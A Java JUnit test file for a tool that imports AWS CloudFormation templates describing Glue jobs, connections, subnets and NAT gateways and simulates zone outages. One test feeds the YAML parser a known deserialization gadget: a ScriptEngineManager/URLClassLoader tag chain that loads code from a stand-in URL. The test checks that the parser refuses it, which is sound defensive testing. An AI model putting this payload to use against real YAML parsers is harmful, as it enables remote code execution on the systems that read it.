package dev.gluefailover.design;

import static dev.gluefailover.design.DesignFixtures.DIR;
import static dev.gluefailover.design.DesignFixtures.evaluate;
import static dev.gluefailover.design.DesignFixtures.template;
import static dev.gluefailover.design.DesignFixtures.yaml;
import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertFalse;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import dev.gluefailover.engine.CheckStatus;
import dev.gluefailover.engine.ConnectionEvaluation;
import dev.gluefailover.engine.Evaluation;
import dev.gluefailover.engine.SimulatedFailure.AzOutage;
import dev.gluefailover.engine.Verdict;
import dev.gluefailover.model.GlueConnection;
import dev.gluefailover.model.GlueJob;
import dev.gluefailover.model.SecurityGroup;
import dev.gluefailover.model.Snapshot;
import dev.gluefailover.model.Subnet;
import dev.gluefailover.snapshot.Samples;
import java.nio.charset.StandardCharsets;
import java.nio.file.Path;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

/** Hand-written templates: every short-form tag, parameters, conditions, named unknowns, warnings, overlays. */
class HandWrittenTemplatesTest {
    private static final Path SHORT_FORMS = DIR.resolve("cfn/short-forms.yaml");

    @Test
    void everyShortFormTagIsReadAndEvaluated() throws Exception {
        Snapshot s = template(SHORT_FORMS).snapshot();
        // !Sub over a parameter, !Base64 in a tag
        assertEquals("prod-data-vpc", s.vpcs().get(0).name());
        assertEquals("ZGVzaWduIHJldmlldw==", s.vpcs().get(0).tags().get("Encoded"));
        // !Select over !Cidr over !GetAtt Vpc.CidrBlock: the blocks CloudFormation would compute
        assertEquals(List.of("10.70.0.0/24", "10.70.1.0/24", "10.70.2.0/24", "10.70.3.0/24", "10.70.4.0/24",
                "10.70.5.0/24"), s.subnets().stream().map(Subnet::cidrBlock).toList());
        // !Select over !GetAZs '' in a region with no zones given: the letters a, b, c
        assertEquals(List.of("us-east-1a", "us-east-1b", "us-east-1c"),
                s.subnets().subList(3, 6).stream().map(Subnet::availabilityZone).toList());
        // !Join, !FindInMap, !If over !Equals, !Split over !Sub of connection Refs
        GlueJob job = s.jobs().get(0);
        assertEquals("prod-orders-nightly-etl", job.name());
        assertEquals(10, job.numberOfWorkers());
        assertEquals(2, job.maxRetries());
        assertEquals(List.of("prod-orders-a", "prod-orders-b", "prod-orders-c", "prod-orders-shared"),
                job.connectionNames());
        // !Not/!Or/!And/!Condition: one NAT gateway by default
        assertEquals(1, s.natGateways().size());
        // !GetAtt Subnet.AvailabilityZone and !GetAtt Sg.GroupId in the connection
        GlueConnection a = s.connection("prod-orders-a").orElseThrow();
        assertEquals("us-east-1a", a.availabilityZone());
        assertEquals(List.of("sg-GlueSg"), a.securityGroupIds());
        // the separate ingress resource referencing the group itself
        SecurityGroup sg = s.securityGroups().get(0);
        assertEquals(List.of("sg-GlueSg"), sg.ingress().get(0).groupIds());
        assertTrue(sg.ingress().get(0).coversAllPorts());
        // !ImportValue stays a named unknown, in the URL as well
        assertEquals("jdbc:postgresql://{Fn::ImportValue orders-db-host}:5432/orders", a.jdbcUrl());
    }

    @Test
    void theDefaultIsOneNatGatewayAndItsZoneOutFailsTheRun() throws Exception {
        DesignImport.Result r = template(SHORT_FORMS);
        Evaluation outage = evaluate(r, new AzOutage("us-east-1a"));
        assertEquals("prod-orders-b", outage.chosen().orElseThrow().name());
        assertEquals(CheckStatus.FAIL, outage.chosen().orElseThrow().result("NAT_IN_FAILED_AZ").orElseThrow().status());
    }

    @Test
    void aParameterChangesTheDesign() throws Exception {
        DesignImport.Result r = template(SHORT_FORMS, Map.of("NatPerAz", "true"));
        assertEquals(3, r.snapshot().natGateways().size());
        Evaluation outage = evaluate(r, new AzOutage("us-east-1a"));
        assertEquals("prod-orders-b", outage.chosen().orElseThrow().name());
        assertTrue(outage.runWouldSucceed());
        DesignImport.Result dev = template(SHORT_FORMS, Map.of("NatPerAz", "true", "Env", "dev"));
        assertEquals(2, dev.snapshot().natGateways().size(), "NatC needs ProdPerAz");
        assertEquals(2, dev.snapshot().jobs().get(0).numberOfWorkers());
        assertEquals(0, dev.snapshot().jobs().get(0).maxRetries());
        DesignException unknown = assertThrows(DesignException.class,
                () -> template(SHORT_FORMS, Map.of("NoSuchParameter", "x")));
        assertTrue(unknown.getMessage().contains("NoSuchParameter"), unknown.getMessage());
    }

    @Test
    void anImportedSubnetIsANamedUnknownWithAWarningOnItsLine() throws Exception {
        DesignImport.Result r = template(SHORT_FORMS);
        DesignWarning w = r.warnings().stream().filter(x -> "OrdersShared".equals(x.logicalId())).findFirst()
                .orElseThrow();
        assertTrue(w.text().contains("Fn::ImportValue shared-network-PrivateSubnet1"), w.text());
        assertEquals(lineOf(SHORT_FORMS, "  OrdersShared:"), w.line());
        assertTrue(w.shown().startsWith(SHORT_FORMS + ":" + w.line() + ": OrdersShared: "), w.shown());
        ConnectionEvaluation shared = evaluate(r).connection("prod-orders-shared").orElseThrow();
        assertEquals(Verdict.UNKNOWN, shared.verdict());
        assertTrue(shared.result("SUBNET_INVALID").orElseThrow().message().contains("--snapshot"));
    }

    @Test
    void zonesGivenOnTheCommandLineReplaceTheAssumedLetters() throws Exception {
        DesignImport.Result r = DesignImport.template(SHORT_FORMS,
                new DesignImport.Options(Map.of(), "eu-west-1", List.of("b", "c", "a"), null));
        assertEquals(List.of("eu-west-1b", "eu-west-1c", "eu-west-1a"),
                r.snapshot().subnets().subList(0, 3).stream().map(Subnet::availabilityZone).toList());
        assertTrue(r.snapshot().assumptions().stream().noneMatch(a -> "availabilityZone".equals(a.field())));
        assertEquals("eu-west-1", r.snapshot().region().name());
    }

    @Test
    void yamlTagsAreNeverInstantiatedAndAnUnknownOneIsAnErrorWithItsLine() {
        DesignException e = assertThrows(DesignException.class, () -> yaml("""
                Resources:
                  Vpc:
                    Type: AWS::EC2::VPC
                    Properties:
                      CidrBlock: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://example.invalid"]]]]
                """));
        assertTrue(e.getMessage().startsWith("inline.yaml:5: "), e.getMessage());
        DesignException custom = assertThrows(DesignException.class, () -> yaml("""
                Resources:
                  Vpc:
                    Type: AWS::EC2::VPC
                    Properties:
                      CidrBlock: !Frobnicate 10.0.0.0/16
                """));
        assertTrue(custom.getMessage().startsWith("inline.yaml:5: unknown tag !Frobnicate"), custom.getMessage());
        DesignException syntax = assertThrows(DesignException.class, () -> yaml("Resources:\n  Vpc: [\n"));
        assertTrue(syntax.getMessage().startsWith("inline.yaml:"), syntax.getMessage());
    }

    /** Jackson would read {@code *cidr} as the text "cidr": an alias is refused with its line instead. */
    @Test
    void aYamlAliasIsRefusedWithItsLineNeverReadAsItsAnchorsName() {
        DesignException e = assertThrows(DesignException.class, () -> yaml("""
                Resources:
                  Vpc:
                    Type: AWS::EC2::VPC
                    Properties:
                      Tags: &tags [{Key: team, Value: data}]
                  Other:
                    Type: AWS::EC2::VPC
                    Properties:
                      Tags: *tags
                """));
        assertEquals("inline.yaml:9: YAML alias *tags is not read: write the value out in full (anchors and aliases "
                + "are not supported)", e.getMessage());
    }

    @Test
    void whatIsNotUnderstoodIsAWarningWithItsLogicalIdNeverDroppedSilently() throws Exception {
        DesignImport.Result r = yaml("""
                Resources:
                  Vpc:
                    Type: AWS::EC2::VPC
                    Properties:
                      CidrBlock: 10.0.0.0/16
                  Acl:
                    Type: AWS::EC2::NetworkAcl
                    Properties:
                      VpcId: !Ref Vpc
                  Subnet:
                    Type: AWS::EC2::Subnet
                    Properties:
                      VpcId: !Ref Vpc
                      CidrBlock: !Select [0, !Cidr [!GetAtt Vpc.CidrBlock, 2, 12]]
                      AvailabilityZone: {"Fn::ToJsonString": {"a": "b"}}
                  Bucket:
                    Type: AWS::S3::Bucket
                """);
        assertTrue(r.warnings().stream().anyMatch(w -> "Acl".equals(w.logicalId()) && w.line() == 6
                && w.text().contains("AWS::EC2::NetworkAcl")), r.warnings().toString());
        assertTrue(r.warnings().stream().anyMatch(w -> "Subnet".equals(w.logicalId())
                && w.text().contains("Fn::ToJsonString")), r.warnings().toString());
        assertEquals("10.0.0.0/20", r.snapshot().subnets().get(0).cidrBlock());
        assertTrue(r.ignored().contains("AWS::S3::Bucket"));
    }

    @Test
    void aRoleWithoutGluesManagedPolicyIsUnknownAndSaysWhatToGrant() throws Exception {
        DesignImport.Result r = yaml("""
                Resources:
                  Role:
                    Type: AWS::IAM::Role
                    Properties:
                      RoleName: etl-role
                      AssumeRolePolicyDocument: {}
                  Conn:
                    Type: AWS::Glue::Connection
                    Properties:
                      CatalogId: !Ref AWS::AccountId
                      ConnectionInput:
                        Name: public-db
                        ConnectionType: JDBC
                        ConnectionProperties: {JDBC_CONNECTION_URL: "jdbc:mysql://db.example.com:3306/x"}
                  Job:
                    Type: AWS::Glue::Job
                    Properties:
                      Name: role-job
                      Role: !Ref Role
                      Command: {Name: glueetl}
                      Connections: {Connections: [!Ref Conn]}
                  Vpc:
                    Type: AWS::EC2::VPC
                    Properties: {CidrBlock: 10.1.0.0/16}
                  Subnet:
                    Type: AWS::EC2::Subnet
                    Properties: {VpcId: !Ref Vpc, CidrBlock: 10.1.0.0/24, AvailabilityZone: us-west-2a}
                  Sg:
                    Type: AWS::EC2::SecurityGroup
                    Properties: {GroupDescription: x, VpcId: !Ref Vpc}
                  Conn2:
                    Type: AWS::Glue::Connection
                    Properties:
                      CatalogId: !Ref AWS::AccountId
                      ConnectionInput:
                        Name: placed
                        ConnectionType: JDBC
                        PhysicalConnectionRequirements: {SubnetId: !Ref Subnet, SecurityGroupIdList: [!Ref Sg]}
                  Job2:
                    Type: AWS::Glue::Job
                    Properties:
                      Name: placed-job
                      Role: arn:aws:iam::123456789012:role/existing
                      Command: {Name: glueetl}
                      Connections: {Connections: [!Ref Conn2]}
                """);
        Snapshot s = r.snapshot();
        assertEquals("us-west-2", s.region().name(), "the region follows the literal zone names");
        assertTrue(s.rolePermissions().isEmpty());
        dev.gluefailover.engine.Engine engine = new dev.gluefailover.engine.Engine(s);
        Evaluation e = engine.evaluate(engine.job("placed-job"), dev.gluefailover.engine.Simulation.NONE,
                dev.gluefailover.rules.RuleSettings.defaults());
        var role = e.connections().get(0).result("ROLE_CANNOT_DESCRIBE").orElseThrow();
        assertEquals(CheckStatus.UNKNOWN, role.status());
        assertTrue(role.message().contains("Grant it ec2:DescribeSubnets"), role.message());
        assertTrue(role.message().contains("AWSGlueServiceRole"), role.message());
        assertTrue(s.problems().stream().anyMatch(p -> p.resourceIds().contains("etl-role")
                && p.message().contains("no AWSGlueServiceRole")), s.problems().toString());
        // the default egress rule AWS gives a group without its own
        assertTrue(s.securityGroups().get(0).egress().get(0).cidrs().contains("0.0.0.0/0"));
    }

    @Test
    void aTemplateLaidOverASnapshotUsesTheSubnetsThatExist() throws Exception {
        Snapshot base = Samples.get("three-az");
        byte[] template = """
                Resources:
                  NewConnectionA:
                    Type: AWS::Glue::Connection
                    Properties:
                      CatalogId: !Ref AWS::AccountId
                      ConnectionInput:
                        Name: design-a
                        ConnectionType: JDBC
                        PhysicalConnectionRequirements:
                          SubnetId: subnet-0c33private001a
                          AvailabilityZone: us-east-1a
                          SecurityGroupIdList: [sg-0c33glue000000001]
                  NewConnectionB:
                    Type: AWS::Glue::Connection
                    Properties:
                      CatalogId: !Ref AWS::AccountId
                      ConnectionInput:
                        Name: design-b
                        ConnectionType: JDBC
                        PhysicalConnectionRequirements:
                          SubnetId: subnet-0c33private001b
                          AvailabilityZone: !Select [1, !GetAZs ""]
                          SecurityGroupIdList: [sg-0c33glue000000001]
                  NewJob:
                    Type: AWS::Glue::Job
                    Properties:
                      Name: design-job
                      Role: arn:aws:iam::123456789012:role/existing
                      Command: {Name: glueetl}
                      NumberOfWorkers: 4
                      WorkerType: G.1X
                      Connections: {Connections: [!Ref NewConnectionA, !Ref NewConnectionB]}
                """.getBytes(StandardCharsets.UTF_8);
        DesignImport.Result r = DesignImport.template(template, "overlay.yaml",
                new DesignImport.Options(Map.of(), null, null, base));
        Snapshot s = r.snapshot();
        assertEquals(base.subnets(), s.subnets());
        assertEquals(base.availabilityZones(), s.availabilityZones());
        dev.gluefailover.engine.Engine engine = new dev.gluefailover.engine.Engine(s);
        Evaluation e = engine.evaluate(engine.job("design-job"), dev.gluefailover.engine.Simulation.NONE,
                dev.gluefailover.rules.RuleSettings.defaults());
        assertEquals("design-a", e.chosen().orElseThrow().name());
        // the existing zones name their ids: an outage by id works as for any capture
        Evaluation outage = engine.evaluate(engine.job("design-job"),
                dev.gluefailover.engine.Simulation.of(new AzOutage("use1-az1")),
                dev.gluefailover.rules.RuleSettings.defaults());
        assertEquals("design-b", outage.chosen().orElseThrow().name());
        assertEquals(CheckStatus.PASS, outage.chosen().orElseThrow().result("NAT_IN_FAILED_AZ").orElseThrow().status());
        // an existing role the snapshot has no permissions for: unknown, saying what to grant
        var eni = outage.chosen().orElseThrow().result("ROLE_CANNOT_CREATE_ENI").orElseThrow();
        assertEquals(CheckStatus.UNKNOWN, eni.status());
        assertTrue(eni.message().contains("role arn:aws:iam::123456789012:role/existing is not declared"), eni.message());
        // Fn::GetAZs in the base's region lists the base's zones, nothing assumed about them
        assertEquals("us-east-1b", s.connection("design-b").orElseThrow().availabilityZone());
        assertFalse(s.assumptions().stream().anyMatch(a -> "availabilityZoneId".equals(a.field())));
        assertTrue(s.source().startsWith("sample:three-az + template:overlay.yaml"), s.source());
    }

    private static int lineOf(Path file, String text) throws Exception {
        List<String> lines = java.nio.file.Files.readAllLines(file);
        for (int i = 0; i < lines.size(); i++) {
            if (lines.get(i).equals(text)) {
                return i + 1;
            }
        }
        throw new AssertionError(text + " not in " + file);
    }
}
